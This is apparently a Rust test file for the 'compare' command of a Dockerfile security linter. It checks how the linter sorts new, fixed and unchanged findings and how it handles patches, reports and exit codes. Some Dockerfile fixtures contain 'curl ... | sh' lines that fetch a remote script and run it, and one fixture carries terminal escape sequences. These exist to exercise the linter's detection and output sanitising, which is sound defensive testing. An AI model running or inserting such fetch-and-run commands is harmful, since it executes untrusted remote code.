//! `plimsoll compare`: new, fixed, unchanged.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test fails by panicking")]

mod support;

use support::{Folder, Said, run};

const OLD: &str =
    "FROM debian:13\nADD app /app\nRUN apt-get update && apt-get install curl\nUSER root\n";
/// The same, but everything has moved, the user is another one, and something worse has come in.
const NEW: &str = "# A comment.\nFROM debian:13\n\nADD app /app\nRUN apt-get update && apt-get install curl\n\
                   RUN curl http://example.com/x | sh\nUSER 1000\n";

fn folder(name: &str) -> Folder {
    let folder = Folder::new(name);
    folder.write("old", OLD);
    folder.write("new", NEW);
    folder
}

fn compare(folder: &Folder, options: &[&str]) -> Said {
    run(folder, &[&["compare", "--today=2026-11-24"], options].concat(), "")
}

/// The names of rules in a list of a comparison as JSON.
fn rules(said: &Said, list: &str) -> Vec<String> {
    let json: serde_json::Value = serde_json::from_str(&said.out).unwrap();
    let all = json[list].as_array().unwrap();
    all.iter().map(|it| it["rule"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn findings_that_moved_are_unchanged() {
    let folder = folder("compare-moved");
    let said = compare(&folder, &["old", "new", "--format=json"]);
    assert_eq!(said.code, 1, "{}", said.errors);
    let (new, fixed, unchanged) =
        (rules(&said, "new"), rules(&said, "fixed"), rules(&said, "unchanged"));
    assert_eq!(fixed, ["runs-as-root"]);
    assert!(new.contains(&"remote-script-pipe".to_owned()), "{new:?}");
    assert!(unchanged.contains(&"prefer-copy-over-add".to_owned()), "{unchanged:?}");
    assert!(new.iter().all(|it| !unchanged.contains(it)), "{new:?} {unchanged:?}");
    let json: serde_json::Value = serde_json::from_str(&said.out).unwrap();
    let root = &json["answers"][1];
    assert_eq!((&root["question"], &root["old"]), (&"root".into(), &"Yes".into()));
    assert_eq!(root["new"], "No");
}

#[test]
fn the_same_twice_has_nothing_new() {
    let folder = folder("compare-same");
    let said = compare(&folder, &["old", "old"]);
    assert_eq!(said.code, 0, "{}", said.errors);
    assert!(said.out.ends_with(" unchanged\n"), "{}", said.out);
    assert!(said.out.contains("0 new, 0 fixed, "), "{}", said.out);
}

#[test]
fn a_folder_stands_for_what_is_built_in_it() {
    let folder = folder("compare-folder");
    folder.write("Dockerfile", NEW);
    let said = compare(&folder, &["old", ".", "--format=json"]);
    assert_eq!(said.code, 1, "{}", said.errors);
    assert_eq!(rules(&said, "fixed"), ["runs-as-root"]);
}

#[test]
fn two_of_the_same_are_two() {
    let folder = folder("compare-twice");
    folder.write("one", "FROM debian:13\nADD a /a\nUSER 1\n");
    folder.write("two", "FROM debian:13\nADD a /a\nADD a /a\nUSER 1\n");
    let said = compare(&folder, &["one", "two", "--format=json"]);
    let count = |list| rules(&said, list).iter().filter(|it| *it == "prefer-copy-over-add").count();
    assert_eq!((count("new"), count("fixed"), count("unchanged")), (1, 0, 1));
    let said = compare(&folder, &["two", "one", "--format=json"]);
    let count = |list| rules(&said, list).iter().filter(|it| *it == "prefer-copy-over-add").count();
    assert_eq!((count("new"), count("fixed"), count("unchanged")), (0, 1, 1));
}

#[test]
fn a_saved_report_is_as_good_as_its_input() {
    let folder = folder("compare-saved");
    run(&folder, &["check", "old", "--output=json=old.json", "--exit-zero"], "");
    for format in ["text", "markdown"] {
        let format = format!("--format={format}");
        let from_report = compare(&folder, &["old.json", "new", &format]);
        assert_eq!(from_report.out, compare(&folder, &["old", "new", &format]).out);
    }
    folder.write("cut.json", &folder.read("old.json")[..300]);
    let said = compare(&folder, &["cut.json", "new"]);
    assert_eq!(said.code, 2);
    assert!(said.errors.contains("cut off"), "{}", said.errors);
}

/// A line that stays may hold a finding that is new, one that changed may hold one that is not.
#[test]
fn findings_can_be_those_of_changed_lines_only() {
    let folder = Folder::new("compare-lines");
    folder.write("old", "FROM debian:13\nADD a /a\nADD b /b\nUSER 1\n");
    folder.write("new", "FROM debian:13\nADD a /a\nADD b /b2\nRUN curl http://x/y | sh\nUSER 1\n");
    let adds = |said: &Said, list| {
        rules(said, list).iter().filter(|it| *it == "prefer-copy-over-add").count()
    };
    let all = compare(&folder, &["old", "new", "--format=json"]);
    let some = compare(&folder, &["old", "new", "--format=json", "--changed-lines"]);
    assert_eq!((adds(&all, "unchanged"), adds(&some, "unchanged")), (2, 1), "{}", all.out);
    assert!(rules(&some, "new").contains(&"remote-script-pipe".to_owned()), "{}", some.out);
    assert!(some.out.contains("\"changed\": true") && !some.out.contains("\"changed\": false"));
    assert!(all.out.contains("\"changed\": false"));
    // Nothing new on these lines, so nothing fails.
    folder.write("moved", "# why\nFROM debian:13\nADD a /a\nADD b /b\nUSER 1\n");
    assert_eq!(compare(&folder, &["old", "moved", "--changed-lines"]).code, 0);
    run(&folder, &["check", "old", "--output=json=old.json", "--exit-zero"], "");
    let said = compare(&folder, &["old.json", "new", "--changed-lines"]);
    assert_eq!(said.code, 2);
    assert!(said.errors.contains("a saved report has no text"), "{}", said.errors);
}

#[test]
fn the_newer_version_may_be_a_patch() {
    let folder = folder("compare-patch");
    let patch = diffy::create_patch(OLD, NEW).to_string();
    folder.write("change.patch", &patch);
    let expected = compare(&folder, &["old", "new", "--format=json"]);
    let said = compare(&folder, &["old", "--patch=change.patch", "--format=json"]);
    // The texts are the same; only the name is the older one's.
    assert_eq!(said.out, expected.out.replace("\"new:", "\"old:"), "{}", said.errors);
    assert_eq!(said.code, 1);
    let piped = run(
        &folder,
        &["compare", "--today=2026-11-24", "old", "--patch=-", "--format=json"],
        &patch,
    );
    assert_eq!(piped.out, said.out);
    folder.write("other", "FROM alpine:3\n");
    let said = compare(&folder, &["other", "--patch=change.patch"]);
    assert_eq!(said.code, 2);
    assert!(said.errors.contains("of the patch does not fit"), "{}", said.errors);
    assert_eq!(compare(&folder, &["old", "new", "--patch=change.patch"]).code, 2);
}

#[test]
fn only_what_is_new_makes_it_fail() {
    let folder = folder("compare-fail");
    assert_eq!(compare(&folder, &["new", "new"]).code, 0);
    assert_eq!(compare(&folder, &["old", "new", "--fail-on=high"]).code, 1);
    assert_eq!(compare(&folder, &["old", "new", "--fail-on=never"]).code, 0);
    assert_eq!(compare(&folder, &["old", "new", "--exit-zero"]).code, 0);
    assert_eq!(compare(&folder, &["old"]).code, 2);
    assert_eq!(compare(&folder, &["old", "new", "--format=sarif"]).code, 2);
    assert_eq!(compare(&folder, &["old", "missing"]).code, 2);
}

#[test]
fn a_review_gets_markdown() {
    let folder = folder("compare-markdown");
    let said = compare(&folder, &["old", "new", "--format=markdown"]);
    assert!(said.out.contains("| Does it run as root? | Yes | **No** |"), "{}", said.out);
    assert!(said.out.contains("### Fixed (1)\n\n- **high** "), "{}", said.out);
    let text = compare(&folder, &["old", "new"]).out;
    assert!(
        text.contains("Fixed (1)\n  \u{25b2} high: The main process runs as `root`."),
        "{text}"
    );
    assert!(text.contains("Does it run as root?"), "{text}");
}

/// What stands in a report of others may not act on a terminal.
#[test]
fn control_characters_are_shown() {
    let folder = folder("compare-control");
    folder.write("old", "FROM debian:13\nUSER 1\n");
    folder.write("a\u{9b}2J", "FROM debian:13\nUSER ro\u{202e}ot\u{9b}2J\nADD a\u{1b}[2J /a\n");
    for format in ["text", "json", "markdown"] {
        let said = compare(&folder, &["old", "a\u{9b}2J", &format!("--format={format}")]);
        let acts = |it: char| it.is_control() && it != '\n' || it == '\u{202e}';
        assert!(!said.out.chars().any(acts), "{format}: {:?}", said.out);
        assert!(said.out.contains("prefer-copy-over-add"), "{}", said.out);
    }
}
